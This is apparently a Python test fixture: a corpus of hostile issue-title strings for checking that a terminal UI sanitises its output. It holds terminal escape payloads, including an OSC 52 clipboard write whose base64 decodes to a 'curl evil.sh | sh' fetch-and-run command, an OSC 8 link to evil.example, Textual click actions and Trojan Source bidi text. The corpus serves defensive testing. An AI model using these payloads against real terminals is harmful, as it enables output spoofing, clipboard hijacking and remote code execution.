"""Hostile strings an attacker can put in an issue title, culprit or message.

Every category of issue 5 is covered: CSI and OSC sequences (title, OSC 52 clipboard, OSC 8
links), Rich and Textual markup (including `[@click=...]`), C0 and C1 controls, bidi
overrides, zero-width characters, and a 5,000-character title. `CORPUS` maps a stable name to
the raw string; `UNSAFE` lists every code point that must never reach the terminal as itself.
"""

from __future__ import annotations

ESC = "\x1b"
CSI8 = "\x9b"  # the 8-bit single-character CSI
OSC8BIT = "\x9d"

ANSI: dict[str, str] = {
    "csi_red": f"{ESC}[31mRED{ESC}[0m",
    "csi_clear_screen": f"{ESC}[2J{ESC}[HScreen wiped",
    "csi_cursor_move": f"title{ESC}[10;10Hmoved",
    "csi_hide_cursor": f"{ESC}[?25lhidden cursor",
    "csi_alt_screen": f"{ESC}[?1049hswitched buffer",
    "csi_8bit": f"{CSI8}31mred via C1 CSI",
    "csi_erase_line": f"real text{ESC}[2K{ESC}[1Gfake text",
    "osc_window_title": f"{ESC}]0;pwned title\x07ok",
    "osc_window_title_st": f"{ESC}]2;pwned{ESC}\\ok",
    "osc52_clipboard": f"{ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07copy me",
    "osc8_link": f"{ESC}]8;;https://evil.example/{ESC}\\click{ESC}]8;;{ESC}\\",
    "osc_8bit": f"{OSC8BIT}0;title via C1 OSC\x9c",
    "dcs_sequence": f"{ESC}P+q544e{ESC}\\dcs",
    "keyboard_report": f"{ESC}[6n",
}

MARKUP: dict[str, str] = {
    "rich_bold": "[bold red]ALERT[/bold red] fake",
    "rich_link": "[link=https://evil.example]login here[/link]",
    "textual_click": "[@click=app.quit]Click to fix[/]",
    "textual_click_bell": "[@click=app.bell]ring[/]",
    "rich_reverse_all": "[reverse][blink]everything[/]",
    "closing_tag_only": "[/]",
    "escaped_bracket": "\\[bold]not bold\\[/bold]",
    "trailing_backslash": "path\\",
    "textual_variable": "[$error]variable colour[/]",
    "textual_variable_bare": "$accent and $error outside tags",
    "textual_uppercase_tag": "[A]upper[/A] [ bold]spaced[/]",
    "textual_auto_close": "[/] crash the parser",
    "emoji_code": ":warning: :skull: shortcodes",
    "nested_brackets": "list[int][bold]x[/bold]",
}

CONTROLS: dict[str, str] = {
    "nul": "before\x00after",
    "bell": "ding\x07dong",
    "backspace_overwrite": "harmless\x08\x08\x08\x08\x08\x08\x08\x08evil!!!!",
    "carriage_return": "real message\rfake message",
    "newline_split": "line one\nline two",
    "tab": "col\tcol",
    "form_feed_vt": "a\x0cb\x0bc",
    "delete": "abc\x7fdef",
    "c1_nel": "next\x85line",
    "c1_range": "".join(chr(c) for c in range(0x80, 0xA0)),
    "c0_range": "".join(chr(c) for c in range(0x00, 0x20)),
}

UNICODE: dict[str, str] = {
    "bidi_rlo": "invoice_\u202efdp.exe",
    "bidi_lre_pdf": "\u202aleft\u202c \u202bright\u202c",
    "bidi_isolates": "\u2066a\u2069\u2067b\u2069\u2068c\u2069",
    "arabic_letter_mark": "x\u061cy",
    "zero_width_space": "pass\u200bword",
    "zero_width_joiners": "a\u200cb\u200dc\u2060d",
    "bom": "\ufeffstarts with BOM",
    "soft_hyphen": "in\u00advisible",
    "line_separator": "one\u2028two\u2029three",
    "hangul_filler": "\u3164\u115f\u1160blank",
    "lone_surrogate": "bad \ud800 surrogate",
    "mixed_trojan_source": "access = 'user\u202e \u2066// admin\u2069 \u2066'",
}

LONG: dict[str, str] = {
    "long_5000": "A" * 4990 + f"{ESC}[31m" + "Z" * 5,
    "long_escapes": f"{ESC}[31m" * 1000,
    "long_markup": "[bold]" * 1000,
}

PLAIN: dict[str, str] = {
    "plain_ascii": "TypeError: Cannot read properties of undefined (reading 'id')",
    "plain_brackets": "IndexError: list index out of range [0]",
    "plain_unicode": "Ошибка профиля — プロフィール 🃏 ✓",
}

CORPUS: dict[str, str] = {**ANSI, **MARKUP, **CONTROLS, **UNICODE, **LONG, **PLAIN}

UNSAFE = frozenset(
    [
        *range(0x00, 0x20),
        *range(0x7F, 0xA0),
        *(0x061C, 0x00AD, 0x115F, 0x1160, 0x3164, 0xFEFF, 0x2028, 0x2029, 0xD800),
        *range(0x200B, 0x2010),
        *range(0x202A, 0x202F),
        *range(0x2060, 0x2065),
        *range(0x2066, 0x2070),
    ]
)
"""Code points that must never be drawn as themselves (including the invisible ones)."""

assert len(CORPUS) >= 40
